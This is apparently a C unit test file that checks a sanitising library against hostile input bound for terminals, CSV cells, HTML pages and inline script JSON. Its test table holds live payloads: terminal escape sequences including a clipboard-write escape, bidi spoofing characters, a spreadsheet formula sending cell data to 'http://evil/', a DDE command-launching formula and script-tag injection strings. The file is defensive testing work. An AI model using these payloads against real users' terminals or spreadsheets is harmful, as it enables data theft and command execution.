#include "common/base/harmless.h"

#include "common/base/check.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>

#include <cmocka.h>

#include <jansson.h>
#include <stdlib.h>
#include <string.h>

#define RLO  "\xE2\x80\xAE" /* right to left override */
#define ROOM 256u

struct hostile {
    const char *source;
    const char *text; /* as a person sees it; NULL: the source itself */
    const char *cell; /* in a CSV file; NULL: as `text` */
};

/* Escapes and controls as terminals know them (ECMA-48, xterm), bidi controls (Unicode TR 9, Trojan
 * Source 2021), forms of UTF-8 that are none (RFC 3629), and formulas (OWASP, CSV Injection). */
static const struct hostile hostiles[] = {
    /* What is meant well stays. */
    {"", NULL, NULL},
    {"plain text, é, €, 😀", NULL, "\"plain text, é, €, 😀\""},
    {"eu-1", NULL, NULL},
    {"a\\x1B", NULL, NULL},
    {"\xC2\xA0", NULL, NULL},     /* no-break space: the first after C1 */
    {"\xE2\x80\xA7", NULL, NULL}, /* one before the line separator */
    {"\xE2\x81\xA5", NULL, NULL}, /* one before the isolates */
    {"\xF4\x8F\xBF\xBF", NULL, NULL},
    /* Controls. */
    {"\x1b[31mred", "\\x1B[31mred", NULL},
    {"\x1b]0;title\x07", "\\x1B]0;title\\x07", "\"\\x1B]0;title\\x07\""},
    {"\x1b]8;;http://evil/\x1b\\click\x1b]8;;\x1b\\", NULL, NULL},
    {"\x1b]52;c;cm0gLXJm\x07", "\\x1B]52;c;cm0gLXJm\\x07", "\"\\x1B]52;c;cm0gLXJm\\x07\""},
    {"\x1b[2J\x1b[H", "\\x1B[2J\\x1B[H", NULL},
    {"\x1b[6n", "\\x1B[6n", NULL},
    {"\x1bP$q\"p\x1b\\", "\\x1BP$q\"p\\x1B\\", "\"\\x1BP$q\"\"p\\x1B\\\""},
    {"\x1b"
     "c",
     "\\x1Bc", NULL},
    {"PASS\rFAIL", "PASS\\x0DFAIL", NULL},
    {"one\ntwo", "one\\x0Atwo", NULL},
    {"clobber: info x\nclobber: error y", "clobber: info x\\x0Aclobber: error y", NULL},
    {"a\tb", "a\\x09b", NULL},
    {"password\b\b\b\b\b\b\b\bharmless", NULL, NULL},
    {"\a", "\\x07", NULL},
    {"\v\f", "\\x0B\\x0C", NULL},
    {"\x0E\x0F", "\\x0E\\x0F", NULL},
    {"\x01", "\\x01", NULL},
    {"\x1F", "\\x1F", NULL},
    {"\x7F", "\\x7F", NULL},
    /* C1: other ways to say ESC [ and the like. */
    {"\xC2\x9B"
     "31m",
     "\\xC2\\x9B31m", NULL},
    {"\xC2\x9D"
     "0;t\xC2\x9C",
     "\\xC2\\x9D0;t\\xC2\\x9C", "\"\\xC2\\x9D0;t\\xC2\\x9C\""},
    {"\xC2\x85", "\\xC2\\x85", NULL},
    {"\xC2\x80", "\\xC2\\x80", NULL},
    {"\xC2\x9F", "\\xC2\\x9F", NULL},
    {"\x9B"
     "31m",
     "\\x9B31m", NULL}, /* as a byte alone */
    /* Direction, and lines that are none. */
    {RLO "txt.exe", "\\xE2\\x80\\xAEtxt.exe", NULL},
    {"\xE2\x80\xAA", "\\xE2\\x80\\xAA", NULL},
    {"\xE2\x80\xAB", "\\xE2\\x80\\xAB", NULL},
    {"\xE2\x80\xAC", "\\xE2\\x80\\xAC", NULL},
    {"\xE2\x80\xAD", "\\xE2\\x80\\xAD", NULL},
    {"\xE2\x81\xA6", "\\xE2\\x81\\xA6", NULL},
    {"\xE2\x81\xA9", "\\xE2\\x81\\xA9", NULL},
    {"\xE2\x80\x8E\xE2\x80\x8F", "\\xE2\\x80\\x8E\\xE2\\x80\\x8F", NULL},
    {"\xD8\x9C", "\\xD8\\x9C", NULL},
    {"\xE2\x80\xA8", "\\xE2\\x80\\xA8", NULL},
    {"\xE2\x80\xA9", "\\xE2\\x80\\xA9", NULL},
    /* Bytes that are no UTF-8. */
    {"\xFF", "\\xFF", NULL},
    {"\xC0\xAF", "\\xC0\\xAF", NULL},
    {"\xC0\x9B", "\\xC0\\x9B", NULL},
    {"\xE0\x82\x9B", "\\xE0\\x82\\x9B", NULL},
    {"\xED\xA0\x80", "\\xED\\xA0\\x80", NULL},
    {"\xF4\x90\x80\x80", "\\xF4\\x90\\x80\\x80", NULL},
    {"\xF8\x88\x80\x80\x80", "\\xF8\\x88\\x80\\x80\\x80", NULL},
    {"\xE2\x82", "\\xE2\\x82", NULL},
    {"\xE2\x82\x1b[31m", "\\xE2\\x82\\x1B[31m", NULL},
    {"\x80\x80", "\\x80\\x80", NULL},
    /* Formulas. */
    {"=1+1", NULL, "\"'=1+1\""},
    {"=HYPERLINK(\"http://evil/?\"&A1,\"x\")", NULL,
     "\"'=HYPERLINK(\"\"http://evil/?\"\"&A1,\"\"x\"\")\""},
    {"+cmd|' /C calc'!A0", NULL, "\"'+cmd|' /C calc'!A0\""},
    {"-2+3", NULL, "\"'-2+3\""},
    {"@SUM(A1)", NULL, "\"'@SUM(A1)\""},
    {"\t=1", "\\x09=1", "\"'\\x09=1\""},
    {"\r=1", "\\x0D=1", "\"'\\x0D=1\""},
    {" =1", NULL, "\"' =1\""},
    {"\xEF\xBC\x9D"
     "1",
     NULL,
     "\"'\xEF\xBC\x9D"
     "1\""},
    {"-5", NULL, NULL}, /* numbers are what they seem */
    {"+5.25", NULL, NULL},
    {"-", NULL, "\"'-\""},
    {"a,b", NULL, "\"a,b\""},
    {"a;b", NULL, "\"a;b\""},
    {"say \"hi\"", NULL, "\"say \"\"hi\"\"\""},
    {" a ", NULL, "\" a \""},
};

/* Whether any byte of it could drive a terminal. */
static bool is_printable(const char *text)
{
    for (const char *at = text; *at != '\0'; at++)
        if ((unsigned char)*at < 0x20 || *at == 0x7F || strncmp(at, RLO, 3) == 0 ||
            ((unsigned char)at[0] == 0xC2 && (unsigned char)at[1] < 0xA0))
            return false;
    return true;
}

static void nothing_hostile_reaches_a_terminal(void **state)
{
    (void)state;
    for (size_t i = 0; i < COUNT(hostiles); i++) {
        char text[ROOM];
        harmless_text(hostiles[i].source, text, sizeof text);
        assert_true(is_printable(text));
        if (hostiles[i].text != NULL)
            assert_string_equal(text, hostiles[i].text);
        else if (is_printable(hostiles[i].source))
            assert_string_equal(text, hostiles[i].source);
    }
}

static void nothing_hostile_reaches_a_spreadsheet(void **state)
{
    (void)state;
    for (size_t i = 0; i < COUNT(hostiles); i++) {
        char cell[ROOM], text[ROOM];
        harmless_cell(hostiles[i].source, cell, sizeof cell);
        harmless_text(hostiles[i].source, text, sizeof text);
        assert_true(is_printable(cell));
        if (hostiles[i].cell != NULL)
            assert_string_equal(cell, hostiles[i].cell);
        else if (hostiles[i].text != NULL)
            assert_string_equal(cell, text);
    }
}

static void a_text_is_cut_between_characters(void **state)
{
    (void)state;
    char text[6];
    assert_string_equal(harmless_text("abcdefg", text, sizeof text), "abcde");
    assert_string_equal(harmless_text("abcd€", text, sizeof text), "abcd");
    assert_string_equal(harmless_text("ab\x1b", text, sizeof text), "ab");
    assert_string_equal(harmless_text("a\x1b", text, sizeof text), "a\\x1B");
    assert_string_equal(harmless_text("abc", text, 1), "");
}

static void a_cell_that_is_cut_is_closed(void **state)
{
    (void)state;
    char text[7];
    assert_string_equal(harmless_cell("=abcdefg", text, sizeof text), "\"'=ab\"");
    assert_string_equal(harmless_cell("a,\"b", text, sizeof text), "\"a,\"\"\"");
    assert_string_equal(harmless_cell("a,b\"", text, sizeof text), "\"a,b\"");
    assert_string_equal(harmless_cell("=", text, 4), "\"'\"");
}

static void a_cell_has_the_room_that_is_promised(void **state)
{
    (void)state;
    for (size_t i = 0; i < COUNT(hostiles); i++) {
        char large[ROOM], exact[ROOM];
        size_t room = 4 * strlen(hostiles[i].source) + 4;
        assert_true(room <= sizeof exact);
        assert_string_equal(harmless_cell(hostiles[i].source, exact, room),
                            harmless_cell(hostiles[i].source, large, sizeof large));
    }
}

static void a_page_shows_markup_as_text(void **state)
{
    (void)state;
    static const struct {
        const char *source, *text;
    } cases[] = {
        {"<script>alert(1)</script>", "&lt;script&gt;alert(1)&lt;/script&gt;"},
        {"\" onload='x'", "&quot; onload=&#39;x&#39;"},
        {"a&b", "a&amp;b"},
        {"&lt;", "&amp;lt;"},
        {"<\x1b" RLO "\xFF", "&lt;\\x1B\\xE2\\x80\\xAE\\xFF"},
        {"é 😀", "é 😀"},
    };
    char small[8];
    for (size_t i = 0; i < COUNT(cases); i++) {
        char text[ROOM];
        assert_string_equal(harmless_html(cases[i].source, text, sizeof text), cases[i].text);
    }
    assert_string_equal(harmless_html("ab&c", small, sizeof small), "ab&amp;");
    assert_string_equal(harmless_html("abc&c", small, sizeof small), "abc");
}

static char *in_script(const char *json)
{
    char *text = NULL;
    size_t bytes = 0;
    FILE *stream = open_memstream(&text, &bytes);
    assert_non_null(stream);
    assert_true(harmless_script(stream, json));
    fclose(stream);
    return text;
}

static void no_string_ends_a_script_and_all_keep_their_meaning(void **state)
{
    (void)state;
    for (size_t i = 0; i < COUNT(hostiles); i++) {
        char source[ROOM];
        snprintf(source, sizeof source, "%s</script><!--<script>&", hostiles[i].source);
        json_t *value = json_string(source);
        if (value == NULL) /* no UTF-8, so it never comes to JSON as it is */
            continue;
        char *json = json_dumps(value, JSON_ENCODE_ANY);

        char *text = in_script(json);

        assert_null(strpbrk(text, "<>&"));
        assert_true(is_printable(text));
        json_t *read = json_loads(text, JSON_DECODE_ANY, NULL);
        assert_non_null(read);
        assert_string_equal(json_string_value(read), source);
        json_decref(read);
        json_decref(value);
        free(json);
        free(text);
    }
}

static void a_script_keeps_the_lines_of_its_json(void **state)
{
    (void)state;
    char *text = in_script("{\n  \"a\": [1,\n 2]\n}\n");
    assert_string_equal(text, "{\n  \"a\": [1,\n 2]\n}\n");
    free(text);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(nothing_hostile_reaches_a_terminal),
        cmocka_unit_test(nothing_hostile_reaches_a_spreadsheet),
        cmocka_unit_test(a_text_is_cut_between_characters),
        cmocka_unit_test(a_cell_that_is_cut_is_closed),
        cmocka_unit_test(a_cell_has_the_room_that_is_promised),
        cmocka_unit_test(a_page_shows_markup_as_text),
        cmocka_unit_test(no_string_ends_a_script_and_all_keep_their_meaning),
        cmocka_unit_test(a_script_keeps_the_lines_of_its_json),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
